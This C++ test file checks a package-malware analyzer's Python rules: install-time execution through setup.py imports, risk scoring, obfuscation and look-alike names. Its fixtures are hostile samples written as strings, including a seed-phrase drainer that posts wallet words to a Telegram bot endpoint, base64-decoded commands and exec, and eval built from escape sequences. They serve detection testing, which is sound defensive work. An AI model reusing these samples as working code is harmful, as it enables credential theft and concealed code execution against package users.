// Python-specific engine behaviour: install-time reach through setup.py's imports, severity of
// install-time techniques, and the resolver on hostile binding shapes.
#include <catch2/catch.hpp>

#include <algorithm>

#include "analyzer/engine/analyzer.h"
#include "tests/support/engine_samples.h"

using namespace tarsier;
using test::has;
using test::sample_ref;
using test::shared_analyzer;

namespace {

PackageAnalysis run(std::vector<ArchiveEntry> files) {
  return shared_analyzer().analyze(sample_ref("pkg"), files, {});
}

bool install_time(const PackageAnalysis& a, const std::string& rule, const std::string& file) {
  for (const auto& f : a.findings) {
    if (f.rule == rule && f.file == file)
      return f.install_time;
  }
  return false;
}

bool found(const PackageAnalysis& a, const std::string& rule) {
  for (const auto& f : a.findings) {
    if (f.rule == rule)
      return true;
  }
  return false;
}

}  // namespace

TEST_CASE("names bound to each other in a cycle do not exhaust the resolver", "[engine][python]") {
  // k's value needs a's path and a's path needs k's value: a bounded walk, not a stack overflow.
  std::string code = "import os\nk = a.f()\na = b[k]\na.g()\nos.system(a)\n";
  for (int i = 0; i < 6; ++i)
    code += "k = a.h" + std::to_string(i) + "()\na = b[k]\n";
  auto result = run({{"mod.py", code}});
  CHECK(found(result, "py-subprocess"));
}

TEST_CASE("modules imported by setup.py run at install time", "[engine][python]") {
  auto a = run({{"setup.py",
                 "from setuptools import setup\nfrom helpers.boot import prepare\n"
                 "prepare()\nsetup(name='pkg')\n"},
                {"helpers/__init__.py", ""},
                {"helpers/boot.py",
                 "import subprocess\ndef prepare():\n"
                 "    subprocess.run(['make'])\n"},
                {"other.py", "import subprocess\nsubprocess.run(['make'])\n"}});
  CHECK(install_time(a, "py-run-tool", "helpers/boot.py"));
  CHECK_FALSE(install_time(a, "py-run-tool", "other.py"));
  CHECK(has(a.threats, "install-exec"));
  CHECK(a.risk == Risk::medium);
}

TEST_CASE("one strong technique in setup.py is medium, hidden it is high", "[engine][python]") {
  SECTION("a plain process start") {
    auto a = run({{"setup.py", "import subprocess\nsubprocess.run(['git', 'describe'])\n"}});
    CHECK(a.risk == Risk::medium);
  }
  SECTION("the same start in a hidden window") {
    auto a = run({{"setup.py",
                   "import subprocess\nsubprocess.Popen(['tool'], "
                   "creationflags=subprocess.CREATE_NO_WINDOW)\n"}});
    CHECK(a.risk >= Risk::high);
  }
  SECTION("a process start in runtime code stays low") {
    auto a = run({{"pkg/run.py", "import subprocess\nsubprocess.run(['git', 'describe'])\n"}});
    CHECK(a.risk == Risk::low);
  }
}

TEST_CASE("a decoded command run at install time is high, a plain one medium", "[engine][python]") {
  SECTION("a command hidden in a base64 constant") {
    auto a = run({{"setup.py",
                   "import base64, subprocess\n"
                   "cmd = base64.b64decode('ZWNobyBoaWRkZW4=').decode()\n"
                   "subprocess.run(cmd, shell=True)\n"}});
    CHECK(has(a.threats, "install-exec"));
    CHECK(a.risk >= Risk::high);
  }
  SECTION("decompressing run-time data before a build command stays medium") {
    auto a = run({{"setup.py",
                   "import zlib, subprocess\n"
                   "data = zlib.decompress(open('vendor.z', 'rb').read())\n"
                   "subprocess.run('make -C vendor', shell=True)\n"}});
    CHECK(a.risk == Risk::medium);
  }
  SECTION("decoding in runtime code next to a process start stays below high") {
    auto a = run({{"pkg/tool.py",
                   "import base64, subprocess\n"
                   "cfg = base64.b64decode(load())\n"
                   "subprocess.run(['git', 'status'])\n"}});
    CHECK(a.risk < Risk::high);
  }
}

TEST_CASE("code written only in escape sequences and run is a staged payload", "[engine][python]") {
  auto a = run({{"pkg/__init__.py",
                 "ev = eval(\"\\145\\166\\141\\x6c\")\nev(\"\\x70\\x72\\x69\\x6e\\x74\")\n"}});
  CHECK(has(a.threats, "staged-payload"));
  CHECK(a.risk >= Risk::high);
  auto b = run({{"pkg/__init__.py", "print(eval('1 + 2'))\nprint('\\x41\\x42\\x43')\n"}});
  CHECK(b.risk < Risk::high);
}

TEST_CASE("a seed phrase or private key sent to a webhook host is exfiltration",
          "[engine][python]") {
  std::string drainer =
      "import requests\n"
      "def connect():\n"
      "    words = input('enter your 12 seed phrase words: ').split()\n"
      "    requests.post('https://api.telegram.org/bot0000:TOKEN/sendMessage',\n"
      "                  json={'chat_id': 1, 'text': ' '.join(words)})\n";
  auto a = run({{"pkg/wallet.py", drainer}});
  CHECK(has(a.threats, "exfiltration"));
  CHECK(a.risk >= Risk::high);

  SECTION("a wallet library that names private keys and talks to its own node is not") {
    auto b = run({{"pkg/wallet.py",
                   "import requests\n"
                   "def sign(private_key, tx):\n"
                   "    return _sign(tx, private_key)\n"
                   "def broadcast(tx):\n"
                   "    return requests.post('https://node.example.org/tx', json=tx)\n"}});
    CHECK_FALSE(has(b.threats, "exfiltration"));
    CHECK(b.risk < Risk::high);
  }
}

TEST_CASE("decoding into exec is high by itself", "[engine][python]") {
  auto a = run({{"pkg/__init__.py", "import base64\nexec(base64.b64decode(BLOB))\n"}});
  CHECK(has(a.threats, "staged-payload"));
  CHECK(a.risk >= Risk::high);
  auto b = run({{"pkg/__init__.py",
                 "import base64\ndata = base64.b64decode(BLOB)\n"
                 "exec(open('script.py').read())\n"}});
  CHECK(b.risk < Risk::high);
}

TEST_CASE("an obfuscated setup.py is high by itself", "[engine][python]") {
  auto a = run({{"setup.py",
                 "import sys\nf = getattr(__builtins__, oct.__str__()[-3] + "
                 "hex.__str__()[-1])\nsetup(name='x')\n"}});
  CHECK(has(a.threats, "obfuscated-install"));
  CHECK(a.risk >= Risk::high);
}

TEST_CASE("look-alike letters fold to the name Python runs", "[engine][python]") {
  // U+1D41E U+1D431 U+1D41E U+1D41C: bold e x e c.
  auto a = run({{"pkg/m.py",
                 "\xF0\x9D\x90\x9E\xF0\x9D\x90\xB1\xF0\x9D\x90\x9E\xF0\x9D\x90\x9C"
                 "(payload)\n"}});
  CHECK(found(a, "py-exec"));
  CHECK(found(a, "py-lookalike-name"));
}
